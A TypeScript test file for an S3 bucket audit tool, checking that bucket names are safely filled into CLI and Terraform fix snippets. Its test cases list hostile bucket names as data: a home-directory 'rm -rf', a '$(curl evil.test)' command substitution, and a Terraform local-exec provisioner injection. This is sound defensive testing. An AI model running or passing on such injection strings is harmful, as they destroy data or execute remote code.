import fc from "fast-check";
import { expect, test } from "vitest";
import { fixFor, fixNamesOf } from "../../src/audit/fix-text.ts";
import type { Intent } from "../../src/audit/intent.ts";
import { goodBucket } from "../support/good-bucket.ts";

const fix = {
  cli: "aws s3api put-bucket-policy --bucket BUCKET --expected-bucket-owner ACCOUNT # under PREFIX",
  terraform: 'bucket = "BUCKET"',
};
const intent = { prefix: "uploads/", maxAgeSeconds: 900, origins: [], mode: undefined } as unknown as Intent;

function filled(bucket: string, accountId: string | undefined = "111122223333") {
  return fixFor(fix, fixNamesOf({ ...goodBucket(), bucket, accountId }, intent));
}

test("the bucket's own names stand where the rule has capitals", () => {
  expect(filled("drop").cli).toBe(
    "aws s3api put-bucket-policy --bucket drop --expected-bucket-owner 111122223333 # under uploads/",
  );
  expect(filled("drop").terraform).toBe('bucket = "drop"');
});

test.for([
  ["a name that ends the command", "drop; rm -rf ~"],
  ["a name that runs another", "$(curl evil.test)"],
  ["a name that closes a quote", `drop" } provisioner "local-exec`],
  ["a name on two lines", "drop\nrm"],
] as const)("%s is left for the reader to fill in", ([, bucket]) => {
  expect(filled(bucket).cli).toContain("--bucket BUCKET ");
  expect(filled(bucket).terraform).toBe('bucket = "BUCKET"');
});

test("whatever the name, nothing that a shell takes apart gets into the command", () => {
  const plain = filled("drop").cli.replace("drop", "");
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (bucket) => {
      const { cli } = filled(bucket);
      const added = cli.replace(plain.slice(0, plain.indexOf(" --expected")), "");
      expect(added.slice(0, added.indexOf(" --expected"))).not.toMatch(/[\s;&|<>$`"'\\(){}*?!#~]/);
    }),
  );
});
